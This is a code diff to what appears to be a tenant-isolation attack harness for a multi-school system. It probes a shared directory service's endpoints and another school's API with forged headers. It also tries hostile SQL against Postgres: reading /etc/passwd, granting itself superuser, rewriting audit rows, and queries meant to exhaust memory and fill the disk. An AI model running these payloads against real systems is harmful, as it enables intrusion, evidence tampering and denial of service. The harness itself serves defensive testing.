@@ -16,6 +16,8 @@ export interface Facts {
   names: string[]
   otherSchool: { code: string; address: string; database: string; role: string }
   directoryDatabase: string
+  /** host:port of the directory, on the schools' network. */
+  directory: string
 }
 
 /** What the attacker found. */
@@ -32,6 +34,7 @@ export interface Findings {
   connections: Record<string, string>
   resolved: Record<string, string>
   otherSchool: Record<string, number | string>
+  directory: Record<string, number | string>
   postgres: Record<string, string>
 }
 
@@ -72,9 +75,9 @@ const connecting = (address: string) =>
     socket.once('error', (error) => resolve(said(error)))
   })
 
-const asking = (method: string, path: string, headers: Record<string, string>) =>
+const asking = (at: string, method: string, path: string, headers: Record<string, string> = {}) =>
   new Promise<number | string>((resolve) => {
-    const [host, port] = facts.otherSchool.address.split(':')
+    const [host, port] = at.split(':')
     const body = method === 'POST' ? '{"username":"admin","password":"a password"}' : ''
     const req = request({
       host,
@@ -106,7 +109,12 @@ async function askEverything() {
       'with our secret': { ...hop, 'x-school-code': code },
       'with our secret and its code': { ...hop, 'x-school-code': facts.otherSchool.code },
     }))
-      answers[`${method} ${path} ${how}`] = await asking(method, path, headers)
+      answers[`${method} ${path} ${how}`] = await asking(
+        facts.otherSchool.address,
+        method,
+        path,
+        headers,
+      )
   return answers
 }
 
@@ -176,6 +184,14 @@ const findings: Findings = {
     ),
   ),
   otherSchool: await askEverything(),
+  directory: await all(
+    Object.fromEntries(
+      ['/metrics', '/ready', '/owner/schools', '/public/schools', '/proxy/WEST/health'].map(
+        (path) => [path, path],
+      ),
+    ),
+    (path) => asking(facts.directory, 'GET', path),
+  ),
   postgres: await all(
     {
       'own role, own database': {},
@@ -198,6 +214,8 @@ for (const [name, sql] of Object.entries({
   'reads a file': `select pg_read_file('/etc/passwd')`,
   'makes itself superuser': 'alter role current_user superuser',
   'changes the audit': `update audit_event set action = 'x'`,
+  'takes a gigabyte of memory': `select length(string_agg(repeat('x', 1000000), '')) from generate_series(1, 1000)`,
+  'fills the disk': `select g || repeat('x', 1000) from generate_series(1, 3000000) g order by 1 offset 2999999`,
 }))
   findings.postgres[name] = await tryPostgres({}, sql)
 
